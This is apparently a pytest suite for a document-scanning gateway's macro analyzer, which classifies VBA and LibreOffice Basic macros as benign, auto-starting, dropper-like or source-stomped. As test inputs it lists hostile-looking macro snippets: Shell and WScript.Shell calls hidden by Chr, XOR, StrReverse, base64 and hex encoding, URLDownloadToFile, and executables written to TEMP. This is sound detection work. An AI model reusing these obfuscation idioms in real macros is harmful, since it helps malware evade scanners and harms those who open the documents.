"""Macros are judged by what they do, and French is no command."""

import time

import pytest

from gateway.demo.vbaproject import compress, vba_project
from gateway.model import Finding, Gap, Level, Pack, Reason
from gateway.scan.analyzers.macros import MacroAnalyzer
from gateway.scan.api import Context
from gateway.scan.budget import Limits
from gateway.scan.engine import Engine
from gateway.scan.extractors.ole import OleExtractor
from gateway.scan.formats.office.compoundwriter import compound_file
from tests.support import office


def judge(data: bytes) -> list[Finding | Gap]:
    return list(MacroAnalyzer().analyze(office.artifact(data, "a.doc"), Context()))


def judged(source: str) -> Finding:
    (finding,) = judge(office.project(source))
    assert isinstance(finding, Finding)
    return finding


def opened(statement: str) -> str:
    return f"Private Sub Document_Open()\n{statement}\nEnd Sub\n"


def test_a_macro_alone_is_a_note() -> None:
    finding = judged("Function Bmi(kg, cm)\n    Bmi = kg / (cm / 100) ^ 2\nEnd Function\n")

    assert (finding.code, finding.level) == ("macro.present", Level.NOTE)
    assert finding.evidence == "ThisDocument line 1: Function Bmi(kg, cm)"


@pytest.mark.parametrize(
    "name",
    [
        "AutoOpen",
        "auto_open",
        "Document_Open",
        "Workbook_BeforeClose",
        "AutoExec",
        "App_NewDocument",
    ],
)
def test_a_macro_that_starts_by_itself_is_suspicious(name: str) -> None:
    finding = judged(f"Public Sub {name}()\n    Range(1).Select\nEnd Sub\n")

    assert (finding.code, finding.level) == ("macro.autoexec", Level.SUSPICIOUS)


def test_an_empty_procedure_that_the_editor_made_does_nothing() -> None:
    finding = judged("Private Sub Workbook_Open()\n\nEnd Sub\nSub Imprimer()\n    x = 1\nEnd Sub\n")

    assert finding.code == "macro.present"


def test_a_macro_on_one_line_counts() -> None:
    assert judged("Sub AutoOpen(): Range(1).Select: End Sub\n").code == "macro.autoexec"


@pytest.mark.parametrize(
    "statement",
    [
        'Shell "calc.exe", vbHide',
        'x = Shell("calc.exe")',
        "Call VBA.Shell(command)",
        'CreateObject("WScript.Shell").Run command',
        'Set o = CreateObject("WScr" & "ipt.Sh" & "ell")',
        'Set o = GetObject("winmgmts:\\\\.\\root\\cimv2")',
        'Set x = CreateObject("MSXML2.ServerXMLHTTP.6.0")',
        'Set o = GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8")',
        "URLDownloadToFile 0, a, b, 0, 0",
        "a = Chr(104) & Chr(97) & Chr(114) & Chr(109) & Chr(108) & Chr(101)",
        'o = StrReverse("llehS.tpircSW")',
        "c = c & Chr(Asc(Mid(s, i, 1)) Xor 7)",
        'x = "cmd /c " & y',
        'x = "powershell -nop"',
        "NormalTemplate.VBProject.VBComponents(1).CodeModule.AddFromString s",
        "Shell _\n    command",
        'Open Environ("TEMP") & "\\a.vbs" For Output As #1',
        'flux.SaveToFile Environ("TEMP") & "\\a" & ".exe", 2',
        'MacScript "do shell script ""open -a Calculator"""',
    ],
)
def test_starting_by_itself_and_acting_is_malicious(statement: str) -> None:
    finding = judged(opened(statement))

    assert (finding.code, finding.level) == ("macro.dropper", Level.MALICIOUS)
    assert "line 1: Private Sub Document_Open()" in finding.evidence
    assert "line 2: " in finding.evidence


@pytest.mark.parametrize(
    "statement",
    [
        'MsgBox "Voir l\'attribution du shell"',
        'MsgBox "l\'attribution des lits" \' Shell "calc"',
        "Dim Shell As Object",
        "Shell.Caption = 1",
        "x = 1: Rem Shell calc",
        "x = Shell_Version",
        'MsgBox "Le PowerShell est interdit"',
        'y = "https://intranet/planning.xlsx"',
        "a = Chr(10) & Chr(13) & x",
        "Application.Run macro",
        'dossier = MacScript("return (path to documents folder) as string")',
        "fichier = MacScript(choix)",
        'Open chemin & "\\export.csv" For Output As #1',
        'MsgBox "Ne pas ouvrir setup.exe"',
    ],
)
def test_words_that_only_look_like_commands_are_none(statement: str) -> None:
    assert judged(opened(statement)).code == "macro.autoexec"


def test_a_macro_that_acts_when_it_is_started_by_hand_is_suspicious() -> None:
    finding = judged('Sub Imprimer()\n    Shell "explorer.exe"\nEnd Sub\n')

    assert (finding.code, finding.level) == ("macro.acts", Level.SUSPICIOUS)
    assert finding.summary == "A macro runs programs when somebody starts it"
    assert finding.evidence == 'ThisDocument line 2: Shell "explorer.exe"'


def test_what_one_module_starts_and_another_does_belongs_together() -> None:
    data = vba_project(
        {
            "ThisDocument": "Sub Document_Open()\r\n    Module1.Planning\r\nEnd Sub\r\n",
            "Module1": 'Sub Planning()\r\n    Shell "calc"\r\nEnd Sub\r\n',
        }
    )

    (finding,) = judge(data)

    assert isinstance(finding, Finding)
    assert finding.code == "macro.dropper"
    assert "Module1 line 2" in finding.evidence


def test_a_file_without_macros_says_nothing() -> None:
    assert judge(compound_file({"WordDocument": b"x" * 5000})) == []


def test_a_project_that_cannot_be_read_is_a_gap() -> None:
    (gap,) = judge(compound_file({"VBA/dir": compress(b"")[:1] + b"rubbish"}))

    assert isinstance(gap, Gap)
    assert gap.reason is Reason.DAMAGED


def test_much_evidence_is_cut_and_counted() -> None:
    finding = judged(opened("\n".join(f'Shell "a{number}"' for number in range(9))))

    assert finding.evidence.endswith("; and 6 more")


class TestWhatStringsComeTo:
    @pytest.mark.parametrize(
        "statement",
        [
            'x = Chr(99) & Chr(109) & Chr(100) & " /c " & y',
            'x = "pow" & "ersh" & "ell -w 1"',
            'x = Replace("WScrQQipt.ShQQell", "QQ", "")',
            'x = "pow"\nx = x & "ersh"\nx = x & "ell -w 1"',
            'x = "cABvAHcAZQByAHMAaABlAGwAbAAgAC0AdwAgADEA"',
            'x = "706f7765727368656c6c202d772031"',
            'x = Chr(100 - 1) & Chr(&H6D) & Chr(50 + 50) & " /c "',
        ],
        ids=["numbers", "pieces", "replaced", "grown", "base64", "hexadecimal", "sums"],
    )
    def test_a_command_in_disguise_is_a_command(self, statement: str) -> None:
        assert judged(opened(statement)).code == "macro.dropper"

    def test_evidence_says_what_they_come_to(self) -> None:
        finding = judged(opened('CreateObject Replace("WScrQQipt.ShQQell", "QQ", "")'))

        assert finding.evidence.endswith("= WScript.Shell")

    def test_evidence_names_the_addresses(self) -> None:
        source = opened('u = "http://192.0.2.1/" & "a.exe"\nURLDownloadToFile 0, u, f, 0, 0')

        assert judged(source).evidence.endswith(
            "addresses: hxxp://192[.]0[.]2[.]1/, hxxp://192[.]0[.]2[.]1/a.exe"
        )

    @pytest.mark.parametrize(
        "statement",
        [
            'x = "Bonjour " & nom & ", votre rendez-vous"',
            "x = Chr(13) & Chr(10)",
            'MsgBox "Le commandant" & " et le shell"',
            'x = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef"',
            'x = "0123456789abcdef0123456789abcdef"',
        ],
    )
    def test_everyday_strings_come_to_nothing(self, statement: str) -> None:
        assert judged(opened(statement)).code == "macro.autoexec"


class TestCompiledFormWithoutSource:
    @pytest.mark.parametrize(
        ("source", "lines", "level"),
        [
            ("", 3, Level.SUSPICIOUS),
            ("", 12, Level.MALICIOUS),
            ("Sub A()\nEnd Sub\n", 40, Level.MALICIOUS),
        ],
    )
    def test_source_that_was_taken_out_is_seen(self, source: str, lines: int, level: Level) -> None:
        found = [
            seen
            for seen in judge(office.compiled_project(source, lines))
            if isinstance(seen, Finding)
        ]
        (stomped,) = [finding for finding in found if finding.code == "macro.stomped"]

        assert stomped.level is level
        assert stomped.evidence.startswith(f"ThisDocument: {lines} compiled lines, ")

    def test_source_that_was_overwritten_is_a_gap_and_a_finding(self) -> None:
        whole = office.compiled_project("Sub AutoOpen()\n    Shell x\nEnd Sub\n", 12)
        place = whole.index(b"Attribut") - 4
        seen = judge(whole[:place] + bytes(200) + whole[place + 200 :])

        assert [one.reason for one in seen if isinstance(one, Gap)] == [Reason.DAMAGED]
        assert [one.code for one in seen if isinstance(one, Finding)] == ["macro.stomped"]

    def test_a_string_that_only_the_compiled_form_says_is_told(self) -> None:
        decoy = 'Sub Planning()\n    MsgBox "Bonjour"\nEnd Sub\n'
        seen = judge(office.compiled_project(decoy, 3, strings=("Bonjour", "Ouvrir le planning")))
        stomped = next(one for one in seen if isinstance(one, Finding))

        assert (stomped.code, stomped.level) == ("macro.stomped", Level.SUSPICIOUS)
        assert stomped.evidence == 'ThisDocument: "Ouvrir le planning"'

    def test_a_command_that_only_the_compiled_form_says_is_malicious(self) -> None:
        seen = judge(office.compiled_project("Sub A()\nEnd Sub\n", 2, strings=("cmd /c calc",)))
        stomped = next(one for one in seen if isinstance(one, Finding))

        assert (stomped.code, stomped.level) == ("macro.stomped", Level.MALICIOUS)

    @pytest.mark.parametrize(
        ("names", "level"),
        [
            (("AutoOpen",), Level.SUSPICIOUS),
            (("Shell",), Level.SUSPICIOUS),
            (("Document_Open", "CreateObject"), Level.MALICIOUS),
        ],
    )
    def test_names_that_only_the_compiled_form_uses_are_told(
        self, names: tuple[str, ...], level: Level
    ) -> None:
        seen = judge(office.compiled_project("Sub A()\n    b = 1\nEnd Sub\n", 3, names=names))
        stomped = next(one for one in seen if isinstance(one, Finding))

        assert (stomped.code, stomped.level) == ("macro.stomped", level)
        assert stomped.evidence == "; ".join(name.lower() for name in names)

    @pytest.mark.parametrize(
        "source",
        [
            'Sub A()\n    MsgBox "dit ""oui"" & cmd"\n    Shell x\nEnd Sub\n',
            'Sub A()\n    y = "dit ""oui"" & cmd" & z\n    Shell x\nEnd Sub\n',
        ],
    )
    def test_what_the_source_says_as_well_is_not_told(self, source: str) -> None:
        data = office.compiled_project(
            source, 4, strings=('dit "oui" & cmd', "abc", "\xe9t\xe9 ailleurs"), names=("Shell",),
            listed=("AutoOpen", "WinExec"),
        )  # fmt: skip

        assert all(one.code != "macro.stomped" for one in judge(data) if isinstance(one, Finding))

    def test_blank_lines_at_the_end_were_compiled_too(self) -> None:
        data = office.compiled_project("\n\n\n\n", 4)

        assert judge(data) == []

    @pytest.mark.parametrize("lines", [0, 2, 5])
    def test_both_forms_of_one_macro_are_honest(self, lines: int) -> None:
        data = office.compiled_project("Sub A()\n    x = 1\nEnd Sub\n", lines)

        assert [seen.code for seen in judge(data) if isinstance(seen, Finding)] == ["macro.present"]


@pytest.mark.parametrize("line", ["Sub AutoOpen()", "Shell ", 'x = x & "a"', 'x = "" & ""', "' a"])
@pytest.mark.slow
def test_no_macro_takes_long(line: str) -> None:
    data = office.project(f"{line}\n" * (400_000 // len(line)))
    began = time.process_time()
    judge(data)

    assert time.process_time() - began < 20


@pytest.mark.parametrize("deflated", [True, False])
def test_the_macros_of_a_presentation_are_judged(*, deflated: bool) -> None:
    data = office.presentation(office.project(opened('Shell "calc"')), deflated=deflated)
    engine = Engine((OleExtractor(),), (MacroAnalyzer(),), pack=Pack("", ""), limits=Limits())

    report = engine.scan(data, "cours.ppt")

    assert {finding.code for finding in report.findings} == {"macro.dropper"}


BASIC = (
    '<?xml version="1.0"?><!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD" "module.dtd">'
    '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" '
    'script:language="StarBasic">REM *****\nSub Main\n{}\nEnd Sub\n</script:module>'
)
FLAT = (
    '<office:document xmlns:ooo="http://openoffice.org/2004/office"><ooo:module ooo:name="Module1">'
    "<ooo:source-code>Sub Main\n{}\nEnd Sub</ooo:source-code></ooo:module></office:document>"
)


class TestBasicOfLibreOffice:
    @pytest.mark.parametrize("document", [BASIC, FLAT])
    @pytest.mark.parametrize(
        ("statement", "summary"),
        [
            ("MsgBox &quot;Bonjour&quot;", "There are macros that do not start"),
            ("Shell(&quot;calc&quot;)", "A macro runs programs if somebody starts it"),
            ('<![CDATA[Shell("calc")]]>', "A macro runs programs if somebody starts it"),
            (
                "x = createUnoService(&quot;com.sun.star.system.SystemShellExecute&quot;)",
                "A macro runs programs if somebody starts it",
            ),
        ],
    )
    def test_a_module_is_a_note_and_its_deeds_are_told(
        self, document: str, statement: str, summary: str
    ) -> None:
        artifact = office.artifact(document.format(statement).encode(), "Module1.xml")
        (finding,) = MacroAnalyzer().analyze(artifact, Context())

        assert isinstance(finding, Finding)
        assert (finding.code, finding.level) == ("macro.present", Level.NOTE)
        assert finding.summary.startswith(summary)
        assert "Module1 line " in finding.evidence

    def test_modules_of_another_kind_are_nothing(self) -> None:
        artifact = office.artifact(b"<pom><module name='Sub A'>Sub B\nEnd Sub</module></pom>", "a")

        assert list(MacroAnalyzer().analyze(artifact, Context())) == []
